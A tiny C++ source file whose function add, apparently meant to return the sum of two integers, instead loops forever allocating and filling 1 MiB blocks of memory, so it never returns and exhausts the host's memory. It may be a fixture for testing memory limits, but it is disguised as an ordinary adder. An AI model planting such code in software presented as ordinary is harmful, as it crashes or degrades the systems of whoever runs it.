#include "adder.h"
#include <cstdlib>
#include <cstdio>
#include <cstring>

int add(int a, int b) {
  for (;;) {
    char* piece = static_cast<char*>(std::malloc(1 << 20));
    if (piece != nullptr) std::memset(piece, 1, 1 << 20);
  }
  return a + b;
}
